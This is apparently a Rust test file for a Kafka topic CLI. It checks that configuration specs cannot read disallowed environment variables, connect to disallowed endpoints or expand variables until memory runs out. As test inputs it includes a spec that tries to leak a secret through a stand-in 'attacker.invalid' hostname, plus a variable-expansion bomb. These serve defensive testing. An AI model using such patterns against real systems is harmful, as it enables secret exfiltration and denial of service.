//! Variables: a spec reads only those the command line allows (`--var`, `TOPICCTL_VARS`, `TOPICCTL_VAR_*`), sends
//! credentials only to endpoints the command line allows (`--allow-endpoint`, `TOPICCTL_ALLOWED_ENDPOINTS`), and
//! cannot make an expansion exhaust memory.

use std::net::TcpListener;

use crate::common::Test;

fn specs(yaml: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("env.yaml"), yaml).unwrap();
    dir
}

fn marker() -> String {
    crate::common::unique("mk").replace('.', "-")
}

#[test]
fn a_variable_the_command_line_does_not_allow_is_refused_and_never_shown() {
    let secret = marker();
    let dir = specs("kind: Environment\nname: dev\nbootstrap: \"${SECRET_MARKER}.attacker.invalid:9092\"\n");
    let path = dir.path().to_str().unwrap();
    for command in [vec!["validate"], vec!["plan", "--env", "dev"]] {
        let ran = Test::new()
            .confined()
            .env("SECRET_MARKER", &secret)
            .args(command.clone())
            .args(["-f", path])
            .status(1)
            .run();
        assert!(ran.stderr.contains("topicctl::variable_not_allowed"), "{}", ran.stderr);
        assert!(ran.stderr.contains("--var SECRET_MARKER"), "{}", ran.stderr);
        assert!(
            !ran.stdout.contains(&secret) && !ran.stderr.contains(&secret),
            "{command:?} leaked"
        );
    }
    // The control: allowed, the same spec reads it.
    let ran = Test::new()
        .env("SECRET_MARKER", "127.0.0.1")
        .args(["validate", "-f", path, "--var", "SECRET_MARKER"])
        .run();
    assert!(ran.stdout.contains("valid"), "{}", ran.stdout);
}

#[test]
fn an_endpoint_the_command_line_does_not_allow_is_refused_before_connecting() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    let dir = specs(
        "kind: Environment\nname: dev\nbootstrap: ${TOPICCTL_VAR_HOSTILE_BOOTSTRAP}\nschemaRegistry: {url: \
         \"http://${TOPICCTL_VAR_HOSTILE_BOOTSTRAP}\"}\n",
    );
    let path = dir.path().to_str().unwrap();
    let plan = |extra: &[&str]| {
        Test::new()
            .confined()
            .env("TOPICCTL_VAR_HOSTILE_BOOTSTRAP", &addr)
            .args(["plan", "--env", "dev", "-f", path])
            .args(extra.iter().copied())
            .status(1)
            .run()
    };
    let ran = plan(&["--allow-endpoint", "*.kafka.eu-west-1.amazonaws.com:*"]);
    assert!(
        ran.stderr.contains("topicctl::connect::endpoint_not_allowed"),
        "{}",
        ran.stderr
    );
    assert!(
        ran.stderr.contains("bootstrap `${TOPICCTL_VAR_HOSTILE_BOOTSTRAP}`"),
        "{}",
        ran.stderr
    );
    assert!(!ran.stderr.contains(&addr), "{}", ran.stderr);
    // With --prune the registry is chosen first: its URL is refused the same way.
    let ran = plan(&["--prune", "--allow-endpoint", "10.0.0.1:*"]);
    assert!(
        ran.stderr.contains("topicctl::connect::endpoint_not_allowed"),
        "{}",
        ran.stderr
    );
    assert!(ran.stderr.contains("schemaRegistry.url"), "{}", ran.stderr);
    // TOPICCTL_ALLOWED_ENDPOINTS, even empty, restricts.
    let ran = Test::new()
        .confined()
        .env("TOPICCTL_VAR_HOSTILE_BOOTSTRAP", &addr)
        .env("TOPICCTL_ALLOWED_ENDPOINTS", "")
        .args(["plan", "--env", "dev", "-f", path])
        .status(1)
        .run();
    assert!(
        ran.stderr.contains("topicctl::connect::endpoint_not_allowed"),
        "{}",
        ran.stderr
    );
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "nothing may connect before the endpoint is allowed"
    );
    // The control: allowed, it does connect (and the error names the variable, not the address).
    let ran = plan(&["--allow-endpoint", "127.0.0.1:*"]);
    assert!(
        listener.accept().is_ok(),
        "the allowed endpoint is used: {}",
        ran.stderr
    );
    assert!(!ran.stderr.contains("endpoint_not_allowed"), "{}", ran.stderr);
}

#[test]
fn a_huge_expansion_is_refused_with_its_code() {
    // 150 KB of spec naming a 130 KB variable 7,500 times (a variable's value is at most 128 KiB on Linux): about
    // 1 GB if expanded, as many times as the spec repeats the field.
    let big = "a".repeat(130_000);
    let field = "${TOPICCTL_VAR_HUGE}".repeat(7_500);
    let dir = specs(&format!("kind: Environment\nname: dev\nbootstrap: \"{field}\"\n"));
    let ran = Test::new()
        .confined()
        .env("TOPICCTL_VAR_HUGE", &big)
        .args(["validate", "-f", dir.path().to_str().unwrap()])
        .status(1)
        .run();
    assert!(ran.stderr.contains("topicctl::variable_too_large"), "{}", ran.stderr);
    assert!(!ran.stderr.contains(&big[..1000]), "the value is not shown");
}
